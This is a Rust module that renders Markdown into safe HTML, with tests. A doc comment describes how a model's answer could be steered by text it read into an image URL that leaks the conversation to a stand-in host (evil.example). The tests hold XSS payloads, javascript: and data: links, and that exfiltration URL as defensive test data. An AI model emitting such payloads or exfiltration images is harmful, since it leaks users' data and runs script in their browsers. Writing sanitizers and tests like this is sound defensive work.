//! Markdown rendered on the server into HTML that is safe to insert (a template's
//! description, an agent's answer). Raw HTML in the source is shown as text, and links
//! and images keep only http(s), mailto and same-site addresses, so the text cannot run
//! script or phish with `javascript:` links.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// What becomes of an image in the source.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Images {
    /// Shown: text its author wrote (a template's description).
    Shown,
    /// A link to it: a model's answer may be steered by what it read into an image
    /// address carrying the conversation out (`![](https://evil.example/?q=secret)`),
    /// which a browser fetches the moment it shows the image; a link goes nowhere
    /// unless clicked.
    AsLinks,
}

pub fn render(markdown: &str, images: Images) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) if images == Images::AsLinks => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        Event::End(TagEnd::Image) if images == Images::AsLinks => Event::End(TagEnd::Link),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Image {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        other => other,
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    out
}

fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim().to_ascii_lowercase();
    let allowed = ["http://", "https://", "mailto:", "#", "/"]
        .iter()
        .any(|prefix| lower.starts_with(prefix));
    if allowed && !lower.starts_with("//") {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

#[cfg(test)]
mod tests {
    use super::{Images, render};

    #[test]
    fn nesting_thousands_deep_renders_without_recursion() {
        // pulldown-cmark keeps its tree in an arena and renders by iteration: a
        // description nested this deep must render, not overflow the stack. Run on a
        // small thread stack so a recursive renderer would fail here.
        let deep = [
            ">".repeat(50_000),
            "- ".repeat(20_000) + "x",
            "[".repeat(20_000) + &"](https://example.com)".repeat(20_000),
            "*".repeat(50_000) + "x" + &"*".repeat(50_000),
        ];
        let rendered = std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(move || {
                deep.iter()
                    .map(|text| render(text, Images::Shown).len())
                    .sum::<usize>()
            })
            .expect("thread")
            .join()
            .expect("rendering overflowed or panicked");
        assert!(rendered > 0);
    }

    #[test]
    fn markdown_becomes_html() {
        let html = render(
            "# Title\n\nSome **bold** and a [link](https://example.com).",
            Images::Shown,
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(
            html.contains(r#"<a href="https://example.com">link</a>"#),
            "{html}"
        );
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = render(
            "Hi <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>",
            Images::AsLinks,
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn dangerous_link_targets_are_dropped() {
        for target in [
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            "data:text/html,x",
            "//evil.example",
        ] {
            let html = render(&format!("[x]({target}) ![y]({target})"), Images::Shown);
            assert!(!html.to_lowercase().contains("javascript"), "{html}");
            assert!(!html.contains("data:"), "{html}");
            assert!(!html.contains("//evil"), "{html}");
        }
    }

    #[test]
    fn an_answer_links_to_its_images_instead_of_loading_them() {
        let html = render(
            "Look: ![the chart](https://evil.example/?q=secret \"t\")",
            Images::AsLinks,
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"<a href="https://evil.example/?q=secret" title="t">the chart</a>"#),
            "{html}"
        );
        let shown = render("![the chart](https://example.com/c.png)", Images::Shown);
        assert!(shown.contains("<img"), "{shown}");
    }
}
